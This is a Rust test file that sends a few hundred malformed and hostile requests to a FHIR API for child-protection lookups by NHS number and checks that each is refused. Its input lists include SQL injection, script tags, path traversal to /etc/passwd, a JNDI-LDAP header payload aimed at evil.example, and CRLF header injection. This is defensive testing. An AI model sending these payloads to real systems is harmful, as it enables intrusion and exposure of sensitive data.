//! Hostile look-ups.

use cpis_tests::{
    events::Request,
    world::{World, authority_caller, nurse},
};
use serde_json::json;

use super::*;

const PATIENT: &str = "patient:identifier";
const SYSTEM: &str = "https://fhir.nhs.uk/Id/nhs-number";
const FORM: &str = "application/x-www-form-urlencoded";
const RESOURCES: [&str; 3] = ["CareTeam", "AuditEvent", "Flag"];

fn token() -> String {
    format!("{SYSTEM}|{NUMBER}")
}

fn to(method: &'static str, path: &str) -> Request {
    Request::new(method, &format!("/cpis/FHIR/R4/{path}")).header("TraceID", ID).caller(&nurse())
}

pub(super) fn good() -> Request {
    to("GET", "CareTeam").query(PATIENT, &token())
}

/// Queries, by what they try.
fn queries() -> Vec<(String, Vec<(String, String)>)> {
    let mut queries = Vec::new();
    let mut add = |name: &str, pairs: &[(&str, &str)]| {
        queries.push((name.to_owned(), pairs.iter().map(|(n, v)| ((*n).to_owned(), (*v).to_owned())).collect()));
    };
    let token = token();
    add("nothing", &[]);
    add("no value", &[(PATIENT, "")]);
    add("the child twice", &[(PATIENT, &token), (PATIENT, &token)]);
    add("two children", &[(PATIENT, &token), (PATIENT, &format!("{SYSTEM}|9990000026"))]);
    add("a list of children", &[(PATIENT, &format!("{token},{SYSTEM}|9990000026"))]);
    add("seventeen parameters", &[("x", "y"); 17]);
    add("a thousand parameters", &[(PATIENT, &token[..]); 1_000]);
    for (name, system) in [
        ("no system and no bar", ""),
        ("no system", "|"),
        ("a system over plain HTTP", "http://fhir.nhs.uk/Id/nhs-number|"),
        ("a system with a slash behind", "https://fhir.nhs.uk/Id/nhs-number/|"),
        ("a system in capitals", "HTTPS://FHIR.NHS.UK/ID/NHS-NUMBER|"),
        ("another system", "https://fhir.nhs.uk/Id/ods-organization-code|"),
        ("a system elsewhere", "https://evil.example/Id/nhs-number|"),
        ("a system as a URN", "urn:oid:2.16.840.1.113883.2.1.4.1|"),
        ("a system with a space", "https://fhir.nhs.uk/Id/nhs-number |"),
        ("a system with two bars", "https://fhir.nhs.uk/Id/nhs-number||"),
        ("a system encoded twice", "https%3A%2F%2Ffhir.nhs.uk%2FId%2Fnhs-number%7C"),
        ("the prefix eq", "eqhttps://fhir.nhs.uk/Id/nhs-number|"),
        ("the prefix ne", "nehttps://fhir.nhs.uk/Id/nhs-number|"),
    ] {
        add(name, &[(PATIENT, &format!("{system}{NUMBER}"))]);
    }
    for (name, number) in [
        ("nothing behind the system", ""),
        ("a wrong check digit", "9990000019"),
        ("nine digits", "999000001"),
        ("eleven digits", "99900000180"),
        ("twenty digits", "99900000189990000018"),
        ("an old-style number", "ABC/12345"),
        ("letters", "abcdefghij"),
        ("a plus sign", "+9990000018"),
        ("a number with a point", "9990000018.0"),
        ("a number with an exponent", "9.990000018e9"),
        ("hexadecimal", "0x25373BA12"),
        ("a prefix before the number", "eq9990000018"),
        ("a range", "9990000018..9990000026"),
        ("digits of full width", "\u{ff19}\u{ff19}\u{ff19}\u{ff10}\u{ff10}\u{ff10}\u{ff10}\u{ff10}\u{ff11}\u{ff18}"),
        ("Arabic digits", "\u{669}\u{669}\u{669}\u{660}\u{660}\u{660}\u{660}\u{660}\u{661}\u{668}"),
        ("a joiner within", "99900\u{200d}00018"),
        ("a mark that turns the writing", "\u{202e}9990000018"),
        ("NUL behind", "9990000018\0"),
        ("NUL within", "99900\0 0018"),
        ("a line end behind", "9990000018\r\nTraceID: x"),
        ("SQL", "9990000018' OR '1'='1"),
        ("a wildcard", "999*"),
        ("any number", "%"),
        ("a regular expression", "^9990000018$"),
        ("a template", "${9990000018}"),
        ("a script", "<script>alert(9990000018)</script>"),
        ("a path", "../../9990000018"),
        ("another bar", "9990000018|9990000026"),
        ("100,000 digits", &"9".repeat(100_000)),
        ("100,000 spaces", &" ".repeat(100_000)),
    ] {
        add(name, &[(PATIENT, &format!("{SYSTEM}|{number}"))]);
    }
    for name in [
        "patient",
        "subject",
        "patient.identifier",
        "subject:identifier",
        "identifier",
        "PATIENT:IDENTIFIER",
        " patient:identifier",
        "patient:identifier ",
        "patient:identifier\0",
        "patient:identifier:exact",
        "patient:identifier:not",
        "patient:identifier[]",
        "patient[identifier]",
        "patient:Patient.identifier",
        "patient%3Aidentifier",
        "",
        "\u{1f600}",
        "__proto__",
        NAME,
    ] {
        add(&format!("the child as {name:?}"), &[(name, &token)]);
    }
    for (name, value) in [
        ("_id", "1"),
        ("_lastUpdated", "gt2020"),
        ("_filter", "a eq b"),
        ("_query", "x"),
        ("_text", "x"),
        ("_content", "x"),
        ("_list", "x"),
        ("_has:Patient:name", NAME),
        ("_revinclude", "*"),
        ("_summary", "count"),
        ("_elements", "id"),
        ("_contained", "true"),
        ("_sort", "-date"),
        ("_total", "accurate"),
        ("_count", "0"),
        ("_count", "-1"),
        ("_count", "99999999999999999999"),
        ("_format", "xml"),
        ("_format", "text/html"),
        ("_format", ""),
        ("_format", "application/fhir+xml"),
        ("_format", "json; fhirVersion=3.0"),
        ("_include", "*"),
        ("_include", ""),
        ("_include", "AuditEvent:agent"),
        ("_include", "CareTeam:patient:Patient"),
        ("_include:iterate", "AuditEvent:entity-type"),
        ("status", "active"),
        ("date", "ge2020-01-01"),
        ("name", NAME),
        ("callback", "x"),
    ] {
        add(&format!("{name}={value:.30?} besides"), &[(PATIENT, &token), (name, value)]);
    }
    add("_format twice", &[(PATIENT, &token), ("_format", "json"), ("_format", "json")]);
    add("two _formats", &[(PATIENT, &token), ("_format", "json"), ("_format", "xml")]);
    queries
}

fn by_query() -> Vec<Case> {
    let mut cases = Vec::new();
    for (number, (name, pairs)) in queries().iter().enumerate() {
        let resource = RESOURCES[number % 3];
        let request = pairs.iter().fold(to("GET", resource), |request, (n, v)| request.query(n, v));
        cases.push(case(format!("GET {resource}: {name}"), &request, BAD_SEARCH));
    }
    cases
}

fn by_form() -> Vec<Case> {
    let mut cases = Vec::new();
    let plain = format!("{PATIENT}={}", token());
    let mut number = 0;
    let mut add = |name: &str, media_type: &str, body: &[u8], expected| {
        let resource = RESOURCES[number % 3];
        number += 1;
        let request = to("POST", &format!("{resource}/_search")).body(media_type, body);
        cases.push(case(format!("POST {resource}: {name}"), &request, expected));
    };
    for (name, pairs) in queries().iter().filter(|(_, pairs)| pairs.len() < 10) {
        let encoded: Vec<_> = pairs.iter().map(|(n, v)| format!("{}={}", percent(n), percent(v))).collect();
        add(name, FORM, encoded.join("&").as_bytes(), BAD_SEARCH);
    }
    for (name, body) in [
        ("a per cent sign alone", "patient:identifier=%"),
        ("half an escape", "patient:identifier=%4"),
        ("an escape of other letters", "patient:identifier=%zz"),
        ("NUL escaped", &format!("{plain}%00")),
        ("a line end escaped", &format!("{plain}%0D%0ATraceID:x")),
        ("an overlong escape", "patient:identifier=%c0%ae"),
        ("an escaped surrogate", "patient:identifier=%ed%a0%80"),
        ("an escape beyond Unicode", "patient:identifier=%f5%80%80%80"),
        ("Latin 1 escaped", "patient:identifier=%e9"),
        ("a byte order mark", &format!("\u{feff}{plain}")),
        ("semicolons between", &format!("{plain};{plain}")),
        ("no equals sign", PATIENT),
        ("equals signs alone", "===="),
        ("ampersands alone", "&&&&&&&&&&&&"),
        ("JSON", r#"{"patient:identifier":"https://fhir.nhs.uk/Id/nhs-number|9990000018"}"#),
        ("XML", "<Parameters><parameter/></Parameters>"),
        ("chunks left over", "1c\r\npatient:identifier=x\r\n0\r\n\r\n"),
        ("two lines", &format!("{plain}\r\n{plain}")),
        ("seventeen pairs", &"a=1&".repeat(17)),
        ("5,000 bytes", &format!("{plain}&x={}", "y".repeat(5_000))),
        ("a megabyte", &"a".repeat(1 << 20)),
    ] {
        add(name, FORM, body.as_bytes(), BAD_SEARCH);
    }
    add("bytes that are no UTF-8", FORM, b"patient:identifier=\xff\xfe", BAD_SEARCH);
    for media_type in [
        "",
        "text/plain",
        "text/html",
        "application/json",
        "application/fhir+json",
        "application/xml",
        "multipart/form-data; boundary=x",
        "application/x-www-form-urlencodedx",
        "x-www-form-urlencoded",
        "*/*",
        "application/x-www-form-urlencoded, text/plain",
        NAME,
    ] {
        add(&format!("as {media_type:?}"), media_type, plain.as_bytes(), OTHER_TYPE);
    }
    for (number, resource) in RESOURCES.iter().enumerate() {
        let post = to("POST", &format!("{resource}/_search"));
        let both = post.clone().query(PATIENT, &token()).body(FORM, plain.as_bytes());
        cases.push(case(format!("POST {resource}: in query and form"), &both, BAD_SEARCH));
        cases.push(case(format!("POST {resource}: no body and no type"), &post, OTHER_TYPE));
        let packed =
            post.clone().header("Content-Encoding", ["gzip", "br", "deflate"][number]).body(FORM, plain.as_bytes());
        cases.push(case(format!("POST {resource}: said to be packed"), &packed, OTHER_TYPE));
        let mut broken = post.body(FORM, plain.as_bytes()).event();
        broken["isBase64Encoded"] = json!(true);
        broken["body"] = json!(["?", "YQ", "YQ==="][number]);
        cases.push(Case { name: format!("POST {resource}: no Base64"), event: broken, expected: BAD_REQUEST });
    }
    cases
}

fn percent(text: &str) -> String {
    text.bytes()
        .map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") })
        .collect()
}

fn by_header() -> Vec<Case> {
    let mut cases = Vec::new();
    let long = ID.repeat(100);
    for (number, value) in [
        "",
        " ",
        "x",
        "1",
        "true",
        "null",
        NUMBER,
        "6a1ad5b20a644c419b0c0d5fcf8e6d11",
        "{6a1ad5b2-0a64-4c41-9b0c-0d5fcf8e6d11}",
        "urn:uuid:6a1ad5b2-0a64-4c41-9b0c-0d5fcf8e6d11",
        "6a1ad5b2-0a64-4c41-9b0c-0d5fcf8e6d1",
        "6a1ad5b2-0a64-4c41-9b0c-0d5fcf8e6d11 ",
        "6a1ad5b2-0a64-4c41-9b0c-0d5fcf8e6dgg",
        "6a1ad5b2\u{2010}0a64\u{2010}4c41\u{2010}9b0c\u{2010}0d5fcf8e6d11",
        "' OR 1=1 --",
        "6a1ad5b2-0a64-4c41-9b0c-0d5fcf8e6d11, 6a1ad5b2-0a64-4c41-9b0c-0d5fcf8e6d11",
        &long,
        "${jndi:ldap://evil.example}",
        "../../../../../../../../../etc/passwd",
        "\u{1f600}",
    ]
    .iter()
    .enumerate()
    {
        let resource = RESOURCES[number % 3];
        let request =
            Request::new("GET", &format!("/cpis/FHIR/R4/{resource}")).query(PATIENT, &token()).caller(&nurse());
        cases.push(case(
            format!("{resource}: TraceID {value:.50?}"),
            &request.clone().header("TraceID", value),
            BAD_HEADER,
        ));
        let request = request.header("TraceID", ID).header("X-Request-ID", value);
        cases.push(case(format!("{resource}: X-Request-ID {value:.50?}"), &request, BAD_HEADER));
    }
    let anonymous = Request::new("GET", "/cpis/FHIR/R4/CareTeam").query(PATIENT, &token()).caller(&nurse());
    cases.push(case("no TraceID", &anonymous, BAD_HEADER));
    for value in [
        "",
        " ",
        "TRUE",
        "True",
        "False",
        "1",
        "0",
        "yes",
        "no",
        "null",
        "undefined",
        "false ",
        " false",
        "false;",
        "true,false",
        "truefalse",
        "\"false\"",
        "\u{201c}false\u{201d}",
        "f\u{430}lse",
        "[false]",
        "!true",
    ] {
        let request = good().header("IsUnscheduledAccessEvent", value);
        cases.push(case(format!("IsUnscheduledAccessEvent {value:?}"), &request, BAD_HEADER));
    }
    cases
}

fn by_path() -> Vec<Case> {
    let mut cases = Vec::new();
    for (method, path) in [
        ("PUT", "CareTeam"),
        ("DELETE", "CareTeam"),
        ("PATCH", "Flag"),
        ("POST", "CareTeam"),
        ("POST", "Flag"),
        ("HEAD", "CareTeam"),
        ("OPTIONS", "CareTeam"),
        ("GET", "CareTeam/_search"),
        ("GET", "Flag/_search"),
        ("POST", "metadata"),
        ("GET", "Patient"),
        ("GET", "careteam"),
        ("GET", "CareTeam%00"),
        ("GET", "CareTeam%2F_search"),
        ("GET", "CareTeam/1"),
        ("GET", "CareTeam/_history"),
        ("GET", "$export"),
        ("POST", "$everything"),
        ("GET", "..%2F..%2Fauthorities%2FE06000001%2Fplans"),
        ("GET", "CareTeam;x=1"),
        ("GET", "AuditEvent/.."),
        ("POST", "AuditEvent/_search/_search"),
        ("GET", ""),
        ("POST", "_search"),
    ] {
        cases.push(case(format!("{method} {path:?}"), &to(method, path).query(PATIENT, &token()), NOT_FOUND));
    }
    let authority = authority_caller("E06000001");
    for resource in RESOURCES {
        let request = to("GET", resource).query(PATIENT, &token()).caller(&authority);
        cases.push(case(format!("{resource}: an authority"), &request, FORBIDDEN));
    }
    cases
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn r60_r63_hostile_look_ups() {
    let world = World::new().await;
    let others = [to("GET", "Flag"), to("GET", "AuditEvent"), to("POST", "CareTeam/_search"), to("GET", "metadata")];
    let others = others.iter().flat_map(headers_of).collect();
    let cases: Vec<Case> =
        [of_any(&good()), others, by_query(), by_form(), by_header(), by_path()].into_iter().flatten().collect();
    assert!(cases.len() >= 250, "{} requests", cases.len());
    refused(world.start("flag-lookup").await, &cases, &good()).await;
}
